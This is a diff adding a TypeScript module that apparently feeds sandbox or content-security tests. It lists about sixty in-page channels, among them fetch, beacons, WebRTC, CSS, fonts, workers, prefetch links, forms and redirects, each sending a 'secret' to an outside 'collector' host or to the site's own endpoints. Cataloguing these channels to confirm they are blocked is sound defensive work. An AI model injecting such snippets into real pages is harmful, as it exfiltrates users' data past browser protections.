@@ -1,0 +1,80 @@
+/**
+ * Ways to send data out of a page, as code that runs in it. `collector` is the address of a listening stranger;
+ * `element` makes an element with attributes and puts it into the document.
+ */
+export const silentChannels: Readonly<Record<string, string>> = {
+  fetch: `fetch(collector + 'fetch')`,
+  fetchPost: `fetch(collector + 'fetch-post', { method: 'POST', body: 'secret' })`,
+  fetchNoCors: `fetch(collector + 'fetch-no-cors', { mode: 'no-cors', method: 'POST', body: 'secret' })`,
+  fetchKeepalive: `fetch(collector + 'fetch-keepalive', { keepalive: true, mode: 'no-cors' })`,
+  xhr: `const request = new XMLHttpRequest(); request.open('POST', collector + 'xhr'); request.send('secret')`,
+  beacon: `navigator.sendBeacon(collector + 'beacon', 'secret')`,
+  eventSource: `new EventSource(collector + 'event-source')`,
+  webSocket: `new WebSocket(collector.replace('http', 'ws') + 'web-socket')`,
+  webTransport: `new WebTransport(collector.replace('http:', 'https:') + 'web-transport').ready`,
+  webRtc: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + collectorHost }] });
+    peer.createDataChannel('x'); peer.setLocalDescription(await peer.createOffer())`,
+  webRtcTcp: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + collectorHost + '?transport=tcp', username: 'secret', credential: 'x' }] });
+    peer.createDataChannel('x'); peer.setLocalDescription(await peer.createOffer())`,
+  image: `new Image().src = collector + 'image'`,
+  imageSet: `element('img', { srcset: collector + 'image-set 1x' })`,
+  picture: `element('picture').append(Object.assign(document.createElement('source'), { srcset: collector + 'picture' }), document.createElement('img'))`,
+  styleAttribute: `element('div', { style: 'background: url(' + collector + 'style-attribute)' })`,
+  styleElement: `element('style').textContent = '@import url(' + collector + 'style-element); body { background: url(' + collector + 'style-url) }'`,
+  adoptedSheet: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(' + collector + 'adopted) }'); document.adoptedStyleSheets.push(sheet)`,
+  cursor: `document.body.style.cursor = 'url(' + collector + 'cursor), auto'`,
+  mask: `document.body.style.mask = 'url(' + collector + 'mask#x)'`,
+  font: `new FontFace('stolen', 'url(' + collector + 'font)').load()`,
+  audio: `element('audio', { src: collector + 'audio', autoplay: '' })`,
+  video: `element('video', { src: collector + 'video', poster: collector + 'poster', autoplay: '' })`,
+  track: `element('video').append(Object.assign(document.createElement('track'), { src: collector + 'track', default: true }))`,
+  object: `element('object', { data: collector + 'object' })`,
+  embed: `element('embed', { src: collector + 'embed' })`,
+  frame: `element('iframe', { src: collector + 'frame' })`,
+  frameSource: `element('iframe', { srcdoc: '<img src=' + collector + 'frame-source>' })`,
+  frameJavaScript: `element('iframe', { src: 'javascript:fetch("' + collector + 'frame-javascript")' })`,
+  script: `element('script', { src: collector + 'script' })`,
+  moduleImport: `import(collector + 'module.js')`,
+  dataModule: `import('data:text/javascript,fetch("' + collector + 'data-module")')`,
+  evaluated: `new Function('fetch("' + collector + 'evaluated")')()`,
+  blobWorker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + collector + 'blob-worker")'], { type: 'text/javascript' })))`,
+  sharedWorker: `new SharedWorker(collector + 'shared-worker.js')`,
+  serviceWorker: `navigator.serviceWorker.register(collector + 'service-worker.js')`,
+  stylesheetLink: `element('link', { rel: 'stylesheet', href: collector + 'stylesheet' })`,
+  preload: `element('link', { rel: 'preload', as: 'fetch', href: collector + 'preload' })`,
+  modulePreload: `element('link', { rel: 'modulepreload', href: collector + 'module-preload.js' })`,
+  prefetch: `element('link', { rel: 'prefetch', href: collector + 'prefetch' })`,
+  preconnect: `element('link', { rel: 'preconnect', href: collector })`,
+  icon: `element('link', { rel: 'icon', href: collector + 'icon' })`,
+  manifest: `element('link', { rel: 'manifest', href: collector + 'manifest' })`,
+  speculation: `element('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ urls: [collector + 'speculation'] }] })`,
+  svgImage: `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', collector + 'svg-image');
+    svg.append(image); document.body.append(svg)`,
+  svgUse: `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+    const use = document.createElementNS('http://www.w3.org/2000/svg', 'use'); use.setAttribute('href', collector + 'svg-use#x');
+    svg.append(use); document.body.append(svg)`,
+};
+
+/** Ways that leave the page or open another one: each needs a page of its own. */
+export const leavingChannels: Readonly<Record<string, string>> = {
+  location: `location.href = collector + 'location?secret'`,
+  open: `window.open(collector + 'open?secret')`,
+  openNoOpener: `window.open(collector + 'open-no-opener?secret', '_blank', 'noopener')`,
+  link: `const link = element('a', { href: collector + 'link?secret' }); link.click()`,
+  linkTarget: `const link = element('a', { href: collector + 'link-target?secret', target: '_blank' }); link.click()`,
+  ping: `const link = element('a', { href: '#x', ping: collector + 'ping' }); link.click()`,
+  formGet: `const form = element('form', { action: collector + 'form-get' }); form.submit()`,
+  formPost: `const form = element('form', { action: collector + 'form-post', method: 'post' }); form.submit()`,
+  formTarget: `const form = element('form', { action: collector + 'form-target', target: '_blank' }); form.submit()`,
+  metaRefresh: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + collector + 'meta-refresh'; document.head.append(meta)`,
+};
+
+/** Ways to reach our own server beyond the assets: closed as well, so that not even we can take data from a tool. */
+export const ownChannels: Readonly<Record<string, string>> = {
+  ownPost: `fetch('/rest/v1/contact_messages', { method: 'POST', body: 'secret' })`,
+  ownApi: `fetch('/api/form-token')`,
+  ownPage: `fetch('/livez?secret')`,
+  ownBeacon: `if (navigator.sendBeacon('/rest/v1/contact_messages', 'secret')) throw 'sent'`,
+  ownForm: `const form = element('form', { action: '/rest/v1/contact_messages', method: 'post' }); form.submit()`,
+};
